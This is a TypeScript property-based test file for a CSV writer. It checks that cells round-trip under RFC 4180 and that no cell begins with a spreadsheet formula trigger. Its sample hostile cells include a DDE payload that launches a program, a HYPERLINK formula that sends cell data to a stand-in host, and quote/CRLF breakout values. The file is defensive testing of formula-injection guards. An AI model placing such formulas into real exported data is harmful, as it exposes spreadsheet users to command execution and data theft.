import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvRow } from "./csv";

/** As RFC 4180 reads it, by itself: nothing of the writer is used. */
const parse = (text: string): readonly string[][] => {
  const rows: string[][] = [];
  let row: string[] = [];
  let at = 0;
  while (at < text.length) {
    if (text[at] !== '"') throw new Error(`a cell without quotes at ${at}`);
    let cell = "";
    for (at += 1; text[at] !== '"' || text[at + 1] === '"'; at += 1) {
      if (at >= text.length) throw new Error("a cell without an end");
      if (text[at] === '"') at += 1;
      cell += text[at];
    }
    row.push(cell);
    at += 1;
    if (text[at] === ",") at += 1;
    else if (text.startsWith("\r\n", at)) {
      rows.push(row);
      row = [];
      at += 2;
    } else throw new Error(`neither a comma nor an end of the row at ${at}`);
  }
  return rows;
};

const triggers = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"];
const hostile = fc
  .tuple(
    fc.constantFrom("", " ", "\u00a0", "\ufeff", "\u200b", "\t ", "'"),
    fc.constantFrom("", "'", ...triggers),
    fc.constantFrom(
      'cmd|" /C calc"!A0',
      'HYPERLINK("https://evil.test?"&A1)',
      '","=1+1',
      '"\r\n"=1"',
      "1",
      ";=1",
    ),
    fc.string({ unit: "grapheme" }),
  )
  .map((parts) => parts.join(""));
const cells = fc.array(fc.oneof(hostile, fc.string({ unit: "grapheme" })), { minLength: 1, maxLength: 8 });

describe("a row of CSV", () => {
  it("is one row with the same cells, whatever stands in them, and begins none with what a spreadsheet runs", () => {
    fc.assert(
      fc.property(cells, (texts) => {
        const rows = parse(csvRow(texts));
        expect(rows).toHaveLength(1);
        const read = rows[0] ?? [];
        expect(read.map((text) => text.replace(/^'/, ""))).toEqual(texts);
        for (const text of read) {
          expect(triggers.filter((sign) => text.startsWith(sign))).toEqual([]);
          expect(triggers.filter((sign) => text.trimStart().startsWith(sign))).toEqual([]);
        }
      }),
      { numRuns: 2000 },
    );
  });

  it.each([
    ["=1+1", `"'=1+1"\r\n`],
    ["+1", `"'+1"\r\n`],
    ["-1", `"'-1"\r\n`],
    ["@SUM(A1)", `"'@SUM(A1)"\r\n`],
    ["\t=1", `"'\t=1"\r\n`],
    ["\r=1", `"'\r=1"\r\n`],
    ["\u200b=1", `"'\u200b=1"\r\n`],
    ["＝1", `"'＝1"\r\n`],
    ["'quoted'", `"''quoted'"\r\n`],
    ['a "word", b', `"a ""word"", b"\r\n`],
    ["a-b", `"a-b"\r\n`],
    ["2026-11-22", `"2026-11-22"\r\n`],
  ])("writes %j so", (text, written) => {
    expect(csvRow([text])).toBe(written);
  });

  it("leaves a cell empty where there is nothing", () => {
    expect(csvRow([null, "", "a"])).toBe('"","","a"\r\n');
  });
});
